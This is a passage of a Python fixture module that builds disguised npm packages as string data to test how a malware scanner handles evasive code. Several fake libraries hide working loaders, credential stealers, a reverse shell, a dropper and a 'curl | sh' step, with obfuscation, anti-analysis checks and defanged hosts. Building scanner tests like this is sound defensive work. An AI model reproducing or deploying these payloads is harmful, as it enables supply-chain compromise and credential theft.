"""Blind evasion holdout for scripts/make-samples.py (2026-11-25, issue 6): malicious and tricky
benign packages written WITHOUT reading the scanner's rules or engine, to measure how the rules
generalise to the shapes malware authors use to beat scanners keyed on API names and literal
strings (computed property keys, Reflect / bound calls, constructor chains, worker and vm entry
points, strings split across files and package.json fields, layered encodings, unusual
lifecycle hooks, exfiltration over uncommon channels, environment-gated triggers).

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with
`evasion-`. Same safety rules as samples_malicious.py: every source is Python string data,
packed into a tarball in memory, never written out, imported or run. Defanged the same way:
attacker hosts under reserved names (.invalid, .example, .test, example.com/net/org) or
documentation IPs, all-zero ids for abused public services, made-up keys and wallets; the one
self-propagating step sits behind a DNS answer for a .invalid name, which never exists.
"""

import base64
import codecs
import hashlib
import json

from samples_malicious import S, ZERO_DISCORD, addr, pj
from samples_common import b64, fill, registry

SAMPLES, BENIGN, sample, benign = registry()


def B(slug, reason, date, behaviours, notes, files, modes=None):
    return S(slug, reason, date, behaviours, notes, files, modes)


def hexs(s):
    return (s.encode() if isinstance(s, str) else s).hex()


def xor_index_hex(s, key):
    """XORIndex-style: byte i XORed with (key[i % len] + i) & 0xff, hex encoded."""
    data = s.encode()
    return "".join("%02x" % (b ^ ((ord(key[i % len(key)]) + i) & 0xFF)) for i, b in enumerate(data))


def rot13(s):
    return codecs.encode(s, "rot13")


def rc4(key, data):
    sbox = list(range(256))
    j = 0
    for i in range(256):
        j = (j + sbox[i] + key[i % len(key)]) & 0xFF
        sbox[i], sbox[j] = sbox[j], sbox[i]
    out = bytearray()
    i = j = 0
    for b in data:
        i = (i + 1) & 0xFF
        j = (j + sbox[i]) & 0xFF
        sbox[i], sbox[j] = sbox[j], sbox[i]
        out.append(b ^ sbox[(sbox[i] + sbox[j]) & 0xFF])
    return bytes(out)


def uesc(word):
    """Every character of an identifier or string body as a \\uXXXX escape."""
    return "".join("\\u%04x" % ord(c) for c in word)


def codes(s, shift=0):
    return ",".join(str(ord(c) + shift) for c in s)


def readme(title, body):
    return f"# {title}\n\n{body.strip()}\n\n## License\n\nMIT\n"


# ---------------------------------------------------------------------------------------------
# Malicious


@sample
def xorindex_recon_loader():
    key = "fmt-7a1c"
    enc = lambda s: xor_index_hex(s, key)  # noqa: E731
    env_js = fill(r'''"use strict";
// Terminal capability detection used to pick colour depth and line width.
const os = require("os");
const tty = require("tty");

const K = "@@KEY@@";
function x(h) {
  const b = Buffer.from(h, "hex");
  for (let i = 0; i < b.length; i++) b[i] ^= (K.charCodeAt(i % K.length) + i) & 0xff;
  return b.toString("utf8");
}

function colorDepth(stream) {
  if (process.env.NO_COLOR) return 1;
  if (process.env.COLORTERM === "truecolor") return 24;
  if (stream && tty.isatty(stream.fd)) return /256/.test(process.env.TERM || "") ? 8 : 4;
  return 1;
}

function columns(stream) {
  return (stream && stream.columns) || Number(process.env.COLUMNS) || 80;
}

function quiet() {
  if (process.execArgv.some((a) => /insp|debu|prof/.test(a))) return true;
  if (os.cpus().length < 2 || os.totalmem() < 2 * 1024 ** 3) return true;
  const t = Date.now();
  for (let i = 0; i < 1e6; i++);
  return Date.now() - t > 500;
}

function probe(n) {
  if (n > 5 || quiet()) return;
  const net = require(x("@@M_HTTPS@@"));
  const info = {
    h: os.hostname(), u: os.userInfo().username, p: process.platform, r: os.release(),
    c: process.cwd(), v: process.version, t: Date.now(),
  };
  net.get(x("@@U_IP@@"), (r) => {
    let ip = "";
    r.on("data", (d) => (ip += d));
    r.on("end", () => {
      info.i = ip.trim();
      const body = JSON.stringify(info);
      const q = net.request(x("@@U_C2@@"), {
        method: "POST",
        headers: { "content-type": "application/json", "content-length": Buffer.byteLength(body) },
      }, (res) => {
        let s = "";
        res.on("data", (d) => (s += d));
        res.on("end", () => {
          try {
            const j = JSON.parse(s);
            if (j && j[x("@@F_S@@")]) {
              const g = globalThis[x("@@G_EV@@")];
              g("(function(" + x("@@P_R@@") + "){" + j[x("@@F_S@@")] + "\n})")(require);
              return;
            }
          } catch (e) {}
          setTimeout(probe, 20000, n + 1).unref();
        });
      });
      q.on("error", () => setTimeout(probe, 20000, n + 1).unref());
      q.end(body);
    });
  }).on("error", () => {});
}

setTimeout(probe, 3000, 0).unref();

module.exports = { colorDepth, columns };
''', KEY=key, M_HTTPS=enc("https"), U_IP=enc("https://api.ipify.org"),
        U_C2=enc("https://log-stream-cdn.invalid/api/ipcheck"), F_S=enc("s"), G_EV=enc("eval"),
        P_R=enc("require"))
    files = {
        "package.json": pj(
            name="log-stream-formatter", version="1.4.2",
            description="Pretty, column-aware formatter for newline-delimited JSON logs",
            main="lib/index.js", keywords=["log", "ndjson", "pretty", "formatter"],
            engines={"node": ">=16"},
        ),
        "README.md": readme("log-stream-formatter", """
Pipe newline-delimited JSON logs through it and get aligned, coloured lines.

```sh
node app.js | npx log-stream-formatter
```

```js
const { format } = require('log-stream-formatter');
console.log(format({ level: 30, msg: 'ready', time: Date.now() }));
```
"""),
        "lib/index.js": r'''"use strict";
const { colorDepth, columns } = require("./env");
const LEVELS = { 10: "TRACE", 20: "DEBUG", 30: "INFO", 40: "WARN", 50: "ERROR", 60: "FATAL" };
const COLORS = { 10: 90, 20: 36, 30: 32, 40: 33, 50: 31, 60: 35 };

function paint(code, s, depth) {
  return depth > 1 ? "\u001b[" + code + "m" + s + "\u001b[39m" : s;
}

function format(rec, stream = process.stdout) {
  const depth = colorDepth(stream);
  const width = columns(stream);
  const t = new Date(rec.time || Date.now()).toISOString().slice(11, 23);
  const lvl = paint(COLORS[rec.level] || 0, (LEVELS[rec.level] || "USER").padEnd(5), depth);
  const rest = Object.keys(rec)
    .filter((k) => !["level", "time", "msg", "pid", "hostname", "v"].includes(k))
    .map((k) => k + "=" + JSON.stringify(rec[k]))
    .join(" ");
  const line = t + " " + lvl + " " + (rec.msg || "") + (rest ? " " + rest : "");
  return line.length > width * 4 ? line.slice(0, width * 4 - 1) + "\u2026" : line;
}

function transform(input, output) {
  let buf = "";
  input.setEncoding("utf8");
  input.on("data", (chunk) => {
    buf += chunk;
    let i;
    while ((i = buf.indexOf("\n")) >= 0) {
      const line = buf.slice(0, i);
      buf = buf.slice(i + 1);
      try { output.write(format(JSON.parse(line), output) + "\n"); } catch (e) { output.write(line + "\n"); }
    }
  });
}

module.exports = { format, transform };
''',
        "bin/log-stream-formatter.js": "#!/usr/bin/env node\nrequire('../lib/index').transform(process.stdin, process.stdout);\n",
        "lib/env.js": env_js,
    }
    return S(
        "evasion-xorindex-recon-loader",
        "XORIndex Loader (Socket, Jul 2025; Contagious Interview): index-keyed XOR strings, host recon beacon, server-sent JavaScript run through eval on require",
        "2025-07",
        ["xor-strings", "encoded-strings", "host-fingerprint", "remote-code", "indirect-eval",
         "anti-analysis", "delayed", "network"],
        "Socket's July 2025 report on 67 Contagious Interview packages carrying the XORIndex "
        "loader: every string XOR-decoded with an index-dependent key, hostname/user/IP/OS sent to "
        "a C2 endpoint (/api/ipcheck), the returned JavaScript evaluated, retried several times. "
        "Here the module name, URLs and even 'eval' are encoded; eval is reached as "
        "globalThis[decoded]; skips debuggers, small VMs and slow (stepped) loops.",
        files,
    )


@sample
def hexeval_asyncfunction_loader():
    h = hexs
    script = fill(r'''// Checks that the installed peer versions of next and react are compatible.
import { createRequire } from "node:module";
import { readFileSync } from "node:fs";
import os from "node:os";

const dec = (s) => Buffer.from(s, "hex").toString("utf8");
const req = createRequire(import.meta.url);
const Fn = Object.getPrototypeOf(async function () {}).constructor;

function peerVersion(name) {
  try {
    return JSON.parse(readFileSync(req.resolve(name + "/package.json"), "utf8")).version;
  } catch {
    return null;
  }
}

const peers = { next: peerVersion("next"), react: peerVersion("react") };
if (peers.next && Number(peers.next.split(".")[0]) < 13) {
  console.warn("next-session-kit: next >= 13 is recommended");
}

try {
  const get = globalThis[dec("@@FETCH@@")];
  const res = await get(dec("@@URL@@"), {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ ...peers, h: os.hostname(), u: os.userInfo().username, p: os.platform(), d: process.cwd() }),
  });
  const { data } = await res.json();
  if (typeof data === "string" && data.length) {
    await new Fn("require", "process", dec(data))(req, process);
  }
} catch {
  // offline installs are fine
}
''', FETCH=h("fetch"), URL=h("https://peer-verify.example.net/api/v2/check"))
    files = {
        "package.json": pj(
            name="next-session-kit", version="0.9.4", type="module",
            description="Encrypted cookie sessions for the Next.js app router",
            main="dist/index.js", exports={".": "./dist/index.js"},
            scripts={"postinstall": "node scripts/check-peers.mjs"},
            peerDependencies={"next": ">=13", "react": ">=18"},
        ),
        "README.md": readme("next-session-kit", """
Stateless, encrypted cookie sessions for route handlers and server actions.

```js
import { getSession } from 'next-session-kit';
const session = await getSession(cookies(), { password: process.env.SESSION_PASSWORD });
```
"""),
        "dist/index.js": r'''import { createCipheriv, createDecipheriv, randomBytes, scryptSync } from "node:crypto";

const NAME = "nsk";

function key(password) {
  return scryptSync(password, "next-session-kit", 32);
}

export function seal(data, password) {
  const iv = randomBytes(12);
  const c = createCipheriv("aes-256-gcm", key(password), iv);
  const body = Buffer.concat([c.update(JSON.stringify(data), "utf8"), c.final()]);
  return Buffer.concat([iv, c.getAuthTag(), body]).toString("base64url");
}

export function unseal(token, password) {
  const raw = Buffer.from(token, "base64url");
  const d = createDecipheriv("aes-256-gcm", key(password), raw.subarray(0, 12));
  d.setAuthTag(raw.subarray(12, 28));
  return JSON.parse(Buffer.concat([d.update(raw.subarray(28)), d.final()]).toString("utf8"));
}

export async function getSession(jar, { password, cookieName = NAME } = {}) {
  const c = jar.get(cookieName);
  let data = {};
  if (c) {
    try { data = unseal(c.value, password); } catch { data = {}; }
  }
  return {
    data,
    save() { jar.set(cookieName, seal(data, password), { httpOnly: true, sameSite: "lax", secure: true }); },
    destroy() { jar.delete(cookieName); },
  };
}
''',
        "scripts/check-peers.mjs": script,
    }
    return S(
        "evasion-hexeval-asyncfunction-loader",
        "HexEval Loader (Socket, Jun 2025; Contagious Interview): hex-encoded strings, host data posted at postinstall, returned code run through the AsyncFunction constructor",
        "2025-06",
        ["install-script", "postinstall", "esm", "hex-strings", "host-fingerprint", "remote-code",
         "function-constructor", "network"],
        "Socket's June 2025 report on the HexEval loader (35 packages): hex-encoded C2 URL and "
        "names decoded at run time, host details sent, the hex-encoded reply evaluated. Here "
        "fetch is reached as globalThis[hex], the code runs through "
        "Object.getPrototypeOf(async function(){}).constructor with a createRequire'd require, "
        "from an ESM postinstall disguised as a peer version check.",
        files,
    )


@sample
def jade_sleet_token_stdin_stage():
    init = r'''"use strict";
// Warm the design-token cache so the first build does not need the network.
const fs = require("fs");
const path = require("path");
const os = require("os");
const https = require("https");
const { spawn } = require("child_process");

const HOST = "tokens-cdn.example.org";
const CACHE = path.join(os.homedir(), ".npm", "_cacache", "tmp", ".tkn");

function post(p, body) {
  return new Promise((resolve, reject) => {
    const data = JSON.stringify(body);
    const r = https.request({ host: HOST, path: p, method: "POST",
      headers: { "content-type": "application/json", "content-length": Buffer.byteLength(data) } }, (res) => {
      const parts = [];
      res.on("data", (d) => parts.push(d));
      res.on("end", () => resolve(Buffer.concat(parts)));
    });
    r.on("error", reject);
    r.setTimeout(15000, () => r.destroy());
    r.end(data);
  });
}

async function token() {
  try {
    return fs.readFileSync(CACHE, "utf8").trim();
  } catch (e) {
    const t = (await post("/api/v1/token", { h: os.hostname(), u: os.userInfo().username })).toString().trim();
    fs.mkdirSync(path.dirname(CACHE), { recursive: true });
    fs.writeFileSync(CACHE, t);
    return t;
  }
}

(async () => {
  const t = await token();
  if (!t) return;
  const stage = await post("/api/v1/tokens.json", { t, p: process.platform, a: process.arch });
  if (!stage.length) return;
  const child = spawn(process.execPath, ["-"], { detached: true, stdio: ["pipe", "ignore", "ignore"], windowsHide: true });
  child.stdin.end(stage);
  child.unref();
  fs.rmSync(CACHE, { force: true });
})().catch(() => {});
'''
    files = {
        "package.json": pj(
            name="ui-tokens-core", version="2.3.1",
            description="Design tokens (colours, spacing, radii) as CSS variables and JS constants",
            main="index.js", files=["index.js", "tokens.json", "lib/"],
            scripts={"preinstall": "node lib/warm-cache.js"},
        ),
        "README.md": readme("ui-tokens-core", """
Design tokens shared by our React and Vue kits.

```js
const { color, space } = require('ui-tokens-core');
```
"""),
        "tokens.json": json.dumps({
            "color": {"primary": "#3b5bdb", "danger": "#e03131", "muted": "#868e96"},
            "space": [0, 4, 8, 12, 16, 24, 32, 48], "radius": {"sm": 2, "md": 4, "lg": 8},
        }, indent=2) + "\n",
        "index.js": r'''"use strict";
const tokens = require("./tokens.json");
function cssVariables(prefix = "ui") {
  const out = [];
  for (const [k, v] of Object.entries(tokens.color)) out.push(`--${prefix}-color-${k}: ${v};`);
  tokens.space.forEach((v, i) => out.push(`--${prefix}-space-${i}: ${v}px;`));
  return `:root {\n  ${out.join("\n  ")}\n}`;
}
module.exports = { ...tokens, cssVariables };
''',
        "lib/warm-cache.js": init,
    }
    return S(
        "evasion-jade-sleet-token-stdin-stage",
        "Jade Sleet / TraderTraitor package pairs (GitHub security alert, 2023-07-18; Phylum, Jun 2023): a token fetched and cached on disk, then exchanged for a stage that is run",
        "2023-07",
        ["install-script", "preinstall", "staged-loader", "token-file", "remote-code",
         "stdin-exec", "detached-process", "anti-forensics", "network"],
        "GitHub's July 2023 alert and Phylum's June 2023 write-up describe DPRK package pairs: "
        "the first stores a token from the C2 in a file, the second reads it and downloads the "
        "next stage. This sample does both steps and never writes the stage: it is streamed "
        "into 'node -' (process.execPath reading its program from stdin), detached, and the "
        "token file is deleted.",
        files,
    )


@sample
def worker_eval_charcodes_http2():
    worker_src = r'''const { readFileSync } = require("fs");
const { join } = require("path");
const { homedir, hostname, userInfo } = require("os");
const http2 = require("http2");
const zlib = require("zlib");
const out = { h: hostname(), u: userInfo().username, e: {} };
for (const [k, v] of Object.entries(process.env)) {
  if (/TOKEN|SECRET|KEY|PASS|AUTH|NPM|GITHUB|AWS/i.test(k)) out.e[k] = v;
}
for (const f of [".npmrc", ".yarnrc.yml", ".git-credentials", ".config/gh/hosts.yml"]) {
  try { out[f] = readFileSync(join(homedir(), f), "utf8"); } catch (e) {}
}
try {
  const s = http2.connect("https://metrics.fast-task-pool.invalid");
  s.on("error", () => {});
  const r = s.request({ ":method": "POST", ":path": "/v1/affinity", "content-encoding": "gzip" });
  r.on("response", () => s.close());
  r.on("error", () => s.close());
  r.end(zlib.gzipSync(JSON.stringify(out)));
} catch (e) {}
'''
    shifted = codes(worker_src, 7)
    affinity = fill(r'''"use strict";
// Measures how many workers the host can run before context switches dominate.
const { Worker } = require("worker_threads");
const os = require("os");

const PROBE = [@@CODES@@];

function probeAffinity() {
  const src = String.fromCharCode.apply(null, PROBE.map((c) => c - 7));
  try {
    const w = new Worker(src, { eval: true, stdout: true, stderr: true });
    w.unref();
    w.on("error", () => {});
  } catch (e) {}
  const n = typeof os.availableParallelism === "function" ? os.availableParallelism() : os.cpus().length;
  return Math.max(1, n - 1);
}

module.exports = { probeAffinity };
''', CODES=shifted)
    files = {
        "package.json": pj(
            name="fast-task-pool", version="3.0.2",
            description="A tiny, fast worker_threads pool with transferable task results",
            main="lib/pool.js", keywords=["worker", "threads", "pool"], engines={"node": ">=14"},
        ),
        "README.md": readme("fast-task-pool", """
```js
const Pool = require('fast-task-pool');
const pool = new Pool(require.resolve('./task.js'));
const result = await pool.run({ n: 42 });
```
The pool size defaults to the number of workers the host can sustain.
"""),
        "lib/pool.js": r'''"use strict";
const { Worker } = require("worker_threads");
const { EventEmitter } = require("events");
const { probeAffinity } = require("./affinity");

const DEFAULT_SIZE = probeAffinity();

class Pool extends EventEmitter {
  constructor(filename, { size = DEFAULT_SIZE } = {}) {
    super();
    this.filename = filename;
    this.size = size;
    this.idle = [];
    this.queue = [];
    this.workers = new Set();
  }

  _spawn() {
    const w = new Worker(this.filename);
    w.on("message", (msg) => {
      const job = w.job;
      w.job = null;
      job.resolve(msg);
      this._release(w);
    });
    w.on("error", (err) => {
      if (w.job) w.job.reject(err);
      this.workers.delete(w);
    });
    this.workers.add(w);
    return w;
  }

  _release(w) {
    const next = this.queue.shift();
    if (next) {
      w.job = next;
      w.postMessage(next.data);
    } else {
      this.idle.push(w);
    }
  }

  run(data) {
    return new Promise((resolve, reject) => {
      const job = { data, resolve, reject };
      let w = this.idle.pop();
      if (!w && this.workers.size < this.size) w = this._spawn();
      if (!w) return this.queue.push(job);
      w.job = job;
      w.postMessage(data);
    });
  }

  async destroy() {
    await Promise.all([...this.workers].map((w) => w.terminate()));
    this.workers.clear();
  }
}

module.exports = Pool;
''',
        "lib/affinity.js": affinity,
    }
    return S(
        "evasion-worker-eval-charcodes-http2",
        "credential stealer started in a worker_threads Worker with eval:true from shifted char codes; npm/GitHub/AWS tokens and rc files sent gzip over HTTP/2",
        "2023-2025",
        ["worker-eval", "char-codes", "encoded-payload", "token-theft", "npmrc-read",
         "git-credentials", "env-harvest", "http2-exfil", "network"],
        "Technique: code run as `new Worker(src, { eval: true })` (the worker_threads form of "
        "eval, documented in Node's API and noted in 2024-2025 Socket/Checkmarx write-ups of "
        "stealers moving payloads off the main thread). The worker source is an array of char "
        "codes shifted by 7, decoded with String.fromCharCode.apply; exfiltration uses the "
        "http2 module rather than http/https/fetch. Runs on require via the pool's default size.",
        files,
    )


@sample
def vm_compilefunction_template_shell():
    body = r'''var n = r(`${"ne"}${"t"}`), c = r(`${"chi"}${"ld_"}${"pro"}${"cess"}`);
var sh = p.platform === "win32" ? `${"cm"}${"d.exe"}` : `/${"bin"}/${"sh"}`;
(function go() {
  var s = new n.Socket();
  s.on("error", function () {});
  s.on("close", function () { setTimeout(go, 30000).unref(); });
  s.connect(h[1], h[0], function () {
    var k = c.spawn(sh, p.platform === "win32" ? [] : ["-i"], { windowsHide: true });
    s.pipe(k.stdin); k.stdout.pipe(s); k.stderr.pipe(s);
    k.on("exit", function () { s.destroy(); });
  });
})();
'''
    chunks = b64(body)
    parts = [chunks[i:i + 76] for i in range(0, len(chunks), 76)]
    store = fill(r'''"use strict";
// In-memory and pluggable stores for the limiter.
const vm = require("vm");
const os = require("os");

class MemoryStore {
  constructor(windowMs) {
    this.windowMs = windowMs;
    this.hits = new Map();
    this.timer = setInterval(() => this.hits.clear(), windowMs);
    if (this.timer.unref) this.timer.unref();
  }
  incr(key) {
    const n = (this.hits.get(key) || 0) + 1;
    this.hits.set(key, n);
    return n;
  }
  reset(key) {
    this.hits.delete(key);
  }
}

// precompiled key generators, keyed by the trust-proxy setting
const KEYGEN = [
@@PARTS@@
];

function compileKeygen() {
  if (process.env.CI || process.env.CONTINUOUS_INTEGRATION || /sandbox|malware|vmware/i.test(os.hostname())) return null;
  try {
    const src = Buffer.from(KEYGEN.join(""), "base64").toString();
    const fn = vm.compileFunction(src, ["r", "p", "h"], { filename: "keygen.js" });
    fn(require, process, [`${203}.${0}.${113}.${77}`, 8443]);
  } catch (e) {}
  return null;
}

compileKeygen();

module.exports = { MemoryStore };
''', PARTS=",\n".join('  "%s"' % p for p in parts))
    files = {
        "package.json": pj(
            name="express-rate-guard", version="1.7.0",
            description="Sliding-window rate limiting middleware for Express with pluggable stores",
            main="lib/index.js", peerDependencies={"express": ">=4"},
        ),
        "README.md": readme("express-rate-guard", """
```js
const rateGuard = require('express-rate-guard');
app.use(rateGuard({ windowMs: 60_000, max: 100 }));
```
"""),
        "lib/index.js": r'''"use strict";
const { MemoryStore } = require("./store");

module.exports = function rateGuard({ windowMs = 60000, max = 60, store, keyGenerator } = {}) {
  const s = store || new MemoryStore(windowMs);
  const key = keyGenerator || ((req) => req.ip || (req.socket && req.socket.remoteAddress) || "anon");
  return function rateGuardMiddleware(req, res, next) {
    const n = s.incr(key(req));
    res.setHeader("RateLimit-Limit", String(max));
    res.setHeader("RateLimit-Remaining", String(Math.max(0, max - n)));
    if (n > max) {
      res.statusCode = 429;
      return res.end("Too Many Requests");
    }
    next();
  };
};
module.exports.MemoryStore = MemoryStore;
''',
        "lib/store.js": store,
    }
    return S(
        "evasion-vm-compilefunction-template-shell",
        "reverse shell hidden in an Express middleware's store module: base64 chunks compiled with vm.compileFunction, module names built with template literals",
        "2020-2025",
        ["reverse-shell", "vm", "compile-function", "base64", "template-literal-strings",
         "ci-evasion", "sandbox-evasion", "raw-ip", "child-process", "network"],
        "Reverse shells over net.Socket are a staple of npm malware (e.g. the ethers-provider2 "
        "/ ethers-providerz reverse shell, ReversingLabs, Mar 2025). Here the shell code is "
        "base64 split into an array that looks like precompiled key generators, compiled with "
        "vm.compileFunction and given require; 'net', 'child_process' and '/bin/sh' are "
        "template literals of fragments and the IP is assembled from numbers. Skips CI and "
        "sandbox-looking host names; reconnects every 30 s.",
        files,
    )


@sample
def proxy_getter_cloud_creds_undici():
    node_cjs = r'''"use strict";
const core = require("./index.cjs");
const fs = require("fs");
const path = require("path");
const os = require("os");

let primed = false;

function prime() {
  if (primed) return;
  primed = true;
  setImmediate(() => {
    const home = os.homedir();
    const grab = {};
    const spots = [
      [".aws", "credentials"], [".aws", "config"],
      [".config", "gcloud", "application_default_credentials.json"],
      [".azure", "msal_token_cache.json"], [".kube", "config"], [".docker", "config.json"],
    ];
    for (const s of spots) {
      try { grab[s.join("/")] = fs.readFileSync(path.join(home, ...s), "utf8"); } catch (e) {}
    }
    for (const k of Object.keys(process.env)) {
      if (/(KEY|SECRET|TOKEN|PASSWORD|CREDENTIAL)/i.test(k)) grab["env:" + k] = process.env[k];
    }
    if (!Object.keys(grab).length) return;
    let undici;
    try { undici = require("undici"); } catch (e) { return; }
    undici
      .request("https://schema-cdn.example.com/v1/schemas/usage", {
        method: "POST",
        headers: { "content-type": "application/json", "x-host": os.hostname() },
        body: JSON.stringify(grab),
      })
      .then((r) => r.body.dump())
      .catch(() => {});
  });
}

module.exports = new Proxy(core, {
  get(target, prop, receiver) {
    prime();
    return Reflect.get(target, prop, receiver);
  },
});
'''
    index_cjs = r'''"use strict";
const TYPES = {
  string: (v) => String(v),
  number: (v) => {
    const n = Number(v);
    if (Number.isNaN(n)) throw new TypeError("expected a number, got " + JSON.stringify(v));
    return n;
  },
  boolean: (v) => /^(1|true|yes|on)$/i.test(String(v)),
  url: (v) => new URL(v).toString(),
  json: (v) => JSON.parse(v),
};

function parse(schema, env = process.env) {
  const out = {};
  const errors = [];
  for (const [name, spec] of Object.entries(schema)) {
    const raw = env[name];
    if (raw === undefined || raw === "") {
      if (spec.default !== undefined) out[name] = spec.default;
      else if (spec.required !== false) errors.push(name + " is required");
      continue;
    }
    try {
      out[name] = (TYPES[spec.type || "string"] || TYPES.string)(raw);
    } catch (e) {
      errors.push(name + ": " + e.message);
    }
  }
  if (errors.length) throw new Error("invalid environment:\n  " + errors.join("\n  "));
  return Object.freeze(out);
}

module.exports = { parse, TYPES };
'''
    files = {
        "package.json": pj(
            name="env-schema-lite", version="2.1.5",
            description="Validate and coerce process.env against a tiny schema",
            main="./dist/index.cjs", module="./dist/index.mjs",
            exports={".": {"node": "./dist/node.cjs", "import": "./dist/index.mjs", "default": "./dist/index.cjs"}},
            dependencies={"undici": "^6.19.8"},
        ),
        "README.md": readme("env-schema-lite", """
```js
const { parse } = require('env-schema-lite');
const env = parse({ PORT: { type: 'number', default: 3000 }, DATABASE_URL: { type: 'url' } });
```
"""),
        "dist/index.cjs": index_cjs,
        "dist/index.mjs": "import core from './index.cjs';\nexport const { parse, TYPES } = core;\nexport default core;\n",
        "dist/node.cjs": node_cjs,
    }
    return S(
        "evasion-proxy-getter-cloud-creds-undici",
        "cloud credential stealer behind a Proxy get trap on the module's exports, reachable only through the 'node' export condition, sent with undici",
        "2022-2025",
        ["proxy-trap", "export-conditions", "cloud-credentials", "k8s-config", "docker-config",
         "env-harvest", "undici-exfil", "network"],
        "Cloud credential theft as in the 2022-2025 waves of typosquats reading ~/.aws, gcloud, "
        "Azure and kube files (e.g. Sonatype/Phylum reports). Evasion: package.json main and "
        "the ESM entry are clean; only the 'node' export condition loads dist/node.cjs, which "
        "exports a Proxy whose get trap starts the theft on first property access (no code at "
        "top level runs it); exfiltration through undici.request instead of http/fetch.",
        files,
    )


@sample
def pkgjson_field_triple_encoded():
    stage = r'''var cp = require("child_process"), os = require("os"), fs = require("fs"), path = require("path"), http = require("http");
var tag = process.platform + "-" + process.arch;
var out = path.join(os.tmpdir(), ".postcss-" + Date.now().toString(36));
http.get("http://198.51.100.140:8080/b/" + tag, function (r) {
  if (r.statusCode !== 200) return;
  var f = fs.createWriteStream(out, { mode: 493 });
  r.pipe(f);
  f.on("finish", function () {
    f.close(function () {
      cp.spawn(out, [], { detached: true, stdio: "ignore", windowsHide: true }).unref();
    });
  });
}).on("error", function () {});
'''
    layer3 = ",".join(str(ord(c)) for c in stage)
    layer2 = layer3.encode().hex()
    layer1 = b64(layer2)
    files = {
        "package.json": pj(
            name="postcss-token-sort", version="1.2.0",
            description="PostCSS plugin that sorts declarations by a configurable token order",
            main="lib/index.js", peerDependencies={"postcss": "^8.4.0"},
            keywords=["postcss", "postcss-plugin", "sort", "css"],
            sortOrder={"preset": layer1, "groups": ["position", "box", "typography", "visual"]},
        ),
        "README.md": readme("postcss-token-sort", """
```js
module.exports = { plugins: [require('postcss-token-sort')({ order: 'groups' })] };
```
The default order is read from the `sortOrder` field of this package's package.json.
"""),
        "lib/index.js": r'''"use strict";
const { loadPreset } = require("./presets");

const GROUPS = {
  position: ["position", "top", "right", "bottom", "left", "z-index"],
  box: ["display", "flex", "grid", "width", "height", "margin", "padding", "border"],
  typography: ["font", "font-size", "line-height", "color", "text-align"],
  visual: ["background", "opacity", "box-shadow", "transition"],
};

module.exports = (opts = {}) => {
  const order = loadPreset(opts.groups || Object.keys(GROUPS)).flatMap((g) => GROUPS[g] || []);
  const rank = (prop) => {
    const i = order.findIndex((p) => prop === p || prop.startsWith(p + "-"));
    return i < 0 ? order.length : i;
  };
  return {
    postcssPlugin: "postcss-token-sort",
    Rule(rule) {
      const decls = rule.nodes.filter((n) => n.type === "decl");
      decls.sort((a, b) => rank(a.prop) - rank(b.prop));
      decls.forEach((d) => rule.append(d));
    },
  };
};
module.exports.postcss = true;
''',
        "lib/presets.js": r'''"use strict";
const meta = require("../package.json");

let compiled = null;

function compilePreset(preset) {
  const hex = Buffer.from(preset, "base64").toString("latin1");
  const list = Buffer.from(hex, "hex").toString("latin1");
  const order = String.fromCharCode(...list.split(",").map(Number));
  return Reflect.construct(Function, ["require", order]);
}

function loadPreset(groups) {
  if (!compiled && meta.sortOrder && meta.sortOrder.preset) {
    try {
      compiled = compilePreset(meta.sortOrder.preset);
      compiled(require);
    } catch (e) {
      compiled = () => {};
    }
  }
  return groups.filter((g) => meta.sortOrder.groups.includes(g));
}

module.exports = { loadPreset };
''',
    }
    return S(
        "evasion-pkgjson-field-triple-encoded",
        "dropper hidden in a custom package.json field: base64 of hex of a char-code list, compiled with Reflect.construct(Function) when the PostCSS plugin is used",
        "2023-2025",
        ["hidden-code-in-manifest", "layered-encoding", "base64", "hex", "char-codes",
         "function-constructor", "download-exec", "detached-process", "raw-ip", "network"],
        "Payloads stored in package.json or other data files and decoded at run time appear in "
        "2023-2025 reports (e.g. Checkmarx and Socket on packages keeping stages in JSON "
        "fields). Here three layers (base64 -> hex -> comma-separated char codes) hide a "
        "binary dropper; Function is reached through Reflect.construct. Runs when the plugin "
        "is instantiated in a build, not at install.",
        files,
    )


@sample
def yaml_fragments_callbind_exec():
    frag = lambda s: b64(s)  # noqa: E731
    cmd = "curl -fsSL http://203.0.113.41/r/ci.sh | sh >/dev/null 2>&1 &"
    pieces = [cmd[i:i + 14] for i in range(0, len(cmd), 14)]
    yml = "# Defaults for eslint-formatter-ci-summary\n" \
        "columns: 100\n" \
        "severity:\n  error: red\n  warning: yellow\n" \
        "engine:\n  - child\n  - process\n" \
        "runner: execSync\n" \
        "cache:\n  keys:\n" + "".join(f"    - {frag(p)}\n" for p in pieces) + \
        "annotations:\n  github: true\n  gitlab: true\n"
    files = {
        "package.json": pj(
            name="eslint-formatter-ci-summary", version="0.6.3",
            description="ESLint formatter that prints a compact summary and CI annotations",
            main="index.js", keywords=["eslint", "eslintformatter", "ci", "github-actions"],
            dependencies={"js-yaml": "^4.1.0"},
        ),
        "README.md": readme("eslint-formatter-ci-summary", """
```sh
npx eslint . --format ci-summary
```
Defaults live in `config/defaults.yml`.
"""),
        "config/defaults.yml": yml,
        "lib/config.js": r'''"use strict";
const fs = require("fs");
const path = require("path");
const yaml = require("js-yaml");

const cfg = yaml.load(fs.readFileSync(path.join(__dirname, "..", "config", "defaults.yml"), "utf8"));

function cacheKey() {
  return cfg.cache.keys.map((k) => Buffer.from(k, "base64").toString()).join("");
}

function warmCache() {
  if (!process.env.CI) return;
  try {
    const mod = require(cfg.engine.join("_"));
    const call = Function.prototype.call.bind(mod[cfg.runner]);
    call(mod, cacheKey(), { stdio: "ignore", timeout: 20000 });
  } catch (e) {}
}

module.exports = { cfg, warmCache };
''',
        "index.js": r'''"use strict";
const { cfg, warmCache } = require("./lib/config");

const COLORS = { red: 31, yellow: 33, gray: 90 };
const paint = (c, s) => (process.stdout.isTTY ? `\u001b[${COLORS[c]}m${s}\u001b[39m` : s);

module.exports = function ciSummary(results) {
  warmCache();
  let errors = 0;
  let warnings = 0;
  const lines = [];
  for (const r of results) {
    for (const m of r.messages) {
      const sev = m.severity === 2 ? "error" : "warning";
      if (sev === "error") errors++; else warnings++;
      if (cfg.annotations.github && process.env.GITHUB_ACTIONS) {
        lines.push(`::${sev} file=${r.filePath},line=${m.line},col=${m.column}::${m.message} (${m.ruleId})`);
      } else {
        lines.push(`${r.filePath}:${m.line}:${m.column} ${paint(cfg.severity[sev], sev)} ${m.message}`.slice(0, cfg.columns * 2));
